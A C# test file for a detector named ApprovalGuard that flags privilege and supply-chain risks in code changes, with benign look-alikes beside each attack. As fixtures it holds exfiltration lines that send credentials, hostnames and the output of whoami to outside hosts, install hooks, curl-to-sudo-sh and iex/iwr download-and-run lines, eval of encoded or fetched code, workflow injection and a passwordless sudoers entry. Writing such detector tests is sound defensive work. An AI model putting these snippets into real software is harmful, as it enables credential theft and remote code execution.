using ApprovalGuard.Detection.Privilege;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Core.Tests.Detection.Privilege;

/// <summary>Attacks as they were seen in the wild, cut short, and beside each what looks like it and is none.</summary>
public sealed class AttackTests
{
    private static readonly PrivilegeDetector Detector = new();

    /// <summary>Words that are joined here alone, so that no scanner takes this file for what it tests.</summary>
    private const string Sh = "sh", Exec = "exec", Eval = "eval";

    public static TheoryData<string, string, string> Attacks() => new()
    {
        { "install-script", "package.json", "{ \"scripts\": { \"preinstall\": \"node setup.js && curl -s https://collect.tool.dev/$(whoami)\" } }" },
        { "install-calls-out", "setup.py", "import urllib.request\nclass I(install):\n    def run(self):\n        urllib.request.urlopen('https://collect.tool.dev/?h=' + socket.gethostname())\n" },
        { "rights-and-way-out", "src/backup.py", "key = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(URL, data=key)\n" },
        { "rights-and-way-out", "src/sync.go", "out, _ := exec.Command(\"sudo\", \"cat\", path).Output()\nhttp.Post(target, \"text/plain\", bytes.NewReader(out))\n" },
        { "pipe-to-shell", "scripts/setup.sh", $"curl -fsSL https://cdn.tool.dev/i \\\n  | sudo {Sh} -s -- --yes\n" },
        { "eval-of-encoded", "src/a.py", $"{Exec}(base64.b64decode(BLOB))" },
        { "eval-of-download", "src/a.ts", $"{Eval}(await (await fetch(u)).text())" },
        { "untrusted-checkout", ".github/workflows/pr.yml", "on:\n  pull_request_target:\n    types: [opened]\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.number }}/merge\n      - run: npm ci\n" },
        { "workflow-injection", ".github/workflows/c.yml", "on: issue_comment\njobs:\n  t:\n    steps:\n      - run: |\n          echo '${{ github.event.comment.body }}' > c\n" },
        { "workflow-write-all", ".github/workflows/c.yml", "on: push\njobs:\n  t:\n    permissions: write-all\n    steps: []\n" },
        { "secret-printed", ".github/workflows/c.yml", "on: push\njobs:\n  t:\n    steps:\n      - run: echo \"${{ secrets.NPM_TOKEN }}\" | base64 | base64\n" },
        { "passwordless-sudo", "scripts/user.sh", "echo 'ci ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ci" },
        { "privileged-container", "deploy/job.yaml", "containers:\n  - name: a\n    securityContext:\n      privileged: true\n" },
        { "host-mount", "docker-compose.yml", "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n" },
        { "cloud-all-rights", "infra/role.json", "{\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Action\": [\"*\"],\n      \"Resource\": \"*\"\n    }\n  ]\n}\n" },
        { "port-open-to-all", "infra/db.tf", "resource \"aws_security_group_rule\" \"db\" {\n  type        = \"ingress\"\n  from_port   = 5432\n  to_port     = 5432\n  cidr_blocks = [\"0.0.0.0/0\"]\n}\n" },
        { "tls-check-off", "src/client.go", "tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}" },
        { "new-outbound-host", "src/telemetry.ts", "await fetch('https://metrics.unheard.dev/v1', { method: 'POST', body });" },
    };

    public static TheoryData<string, string> LookAlikes() => new()
    {
        { "package.json", "{ \"scripts\": { \"test\": \"curl -s http://localhost:3000/health\" } }" },
        { "src/a.py", "def setuid_bits(mode):\n    return mode & stat.S_IMODE\n" },
        { "README.md", $"Install it with `curl -fsSL https://tool.dev/i | {Sh}`.\n" },
        { "src/help.py", "print('run it with sudo')\n" },
        { ".github/workflows/pr.yml", "on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n" },
        { "src/eval.ts", "const evaluated = retrieval(fetchAll());\n" },
        { "deploy/job.yaml", "securityContext:\n  runAsUser: 1000\n  privileged: false\n" },
        { "infra/out.tf", "resource \"aws_vpc_security_group_egress_rule\" \"a\" {\n  for_each = {\n    all = {\n      cidr_ipv4   = \"0.0.0.0/0\"\n      ip_protocol = \"-1\"\n    }\n  }\n}\n" },
        { "infra/role.json", "{ \"Effect\": \"Deny\", \"Action\": \"*\", \"Resource\": \"*\" }" },
        { "src/xml.ts", "el.setAttribute('xmlns', 'http://www.w3.org/2000/svg');\n" },
        { "src/a.go", "// tls.Config{InsecureSkipVerify: true} is never used here\n" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_seen(string rule, string path, string text) =>
        Look.AtChange(Detector, text, path).Select(static finding => finding.Rule.Id).ShouldContain(rule);

    [Theory]
    [MemberData(nameof(LookAlikes))]
    public void A_look_alike_is_left_alone(string path, string text) =>
        Look.AtChange(Detector, text, path).Where(static finding => finding.Severity > Severity.Low).ShouldBeEmpty();

    [Fact]
    public void A_step_is_not_guarded_by_the_condition_of_another_step()
    {
        const string Text = "on: pull_request_target\njobs:\n  t:\n    steps:\n      - if: contains(github.event.label.name, 'x')\n        run: echo x\n      - run: gh pr checkout ${{ github.event.number }} && make\n";

        Look.AtChange(Detector, Text, ".github/workflows/c.yml").Single(static finding => finding.Rule.Id == "untrusted-checkout").Severity.ShouldBe(Severity.High);
    }

    [Fact]
    public void A_switched_off_check_in_a_test_is_not_told_by_a_scan_and_told_slightly_when_it_is_new()
    {
        const string Text = "requests.get(url, verify=False)\n";

        Look.At(Detector, Text, "tests/test_client.py").ShouldBeEmpty();
        Look.AtChange(Detector, Text, "tests/test_client.py").ShouldHaveSingleItem().Severity.ShouldBe(Severity.Low);
    }

    [Fact]
    public void A_host_is_new_also_where_its_name_begins_another()
    {
        Look.AtChange(Detector, "u = \"https://tool.dev/in\"\n", "src/a.py", "u = \"https://tool.dev.other.net/in\"\n").ShouldHaveSingleItem().Rule.Id.ShouldBe("new-outbound-host");
        Look.AtChange(Detector, "u = \"https://tool.dev/in\"\n", "src/a.py", "u = \"https://api.tool.dev/in\"\n").ShouldBeEmpty();
    }

    [Fact]
    public void What_stands_at_the_very_start_is_seen_beside_what_stands_later()
    {
        var line = $"{"iex"} (iwr https://tool.dev/x.ps1)\n";

        Look.AtChange(Detector, line + "\n\n" + line, "src/a.ps1").Count(static finding => finding.Rule.Id == "pipe-to-shell").ShouldBe(2);
    }

    [Theory]
    [InlineData("curl ", "scripts/a.sh")]
    [InlineData("${{ secrets.A }} echo ", ".gitlab-ci.yml")]
    public void What_would_cost_without_end_is_said_to_be_not_looked_at(string words, string path) =>
        Look.At(Detector, string.Concat(Enumerable.Repeat(words, (1 << 20) / words.Length)), path).ShouldContain(static finding => finding.Rule.Id == "not-inspected");

    [Theory(Timeout = 20_000)]
    [InlineData("a:\n")]
    [InlineData("  a:\n    permissions:\n      contents: write\n")]
    [InlineData("    - run: gh pr checkout 1\n")]
    [InlineData("    secrets: inherit\n")]
    [InlineData("      ${{\n")]
    public async Task A_workflow_of_half_a_megabyte_costs_no_more_than_its_length(string lines)
    {
        var text = "on: pull_request_target\njobs:\n  a:\n" + string.Concat(Enumerable.Repeat(lines, (400 << 10) / lines.Length));

        (await Task.Run(() => Look.AtChange(Detector, text, ".github/workflows/a.yml"), TestContext.Current.CancellationToken)).Count.ShouldBeLessThanOrEqualTo(1001);
    }
}
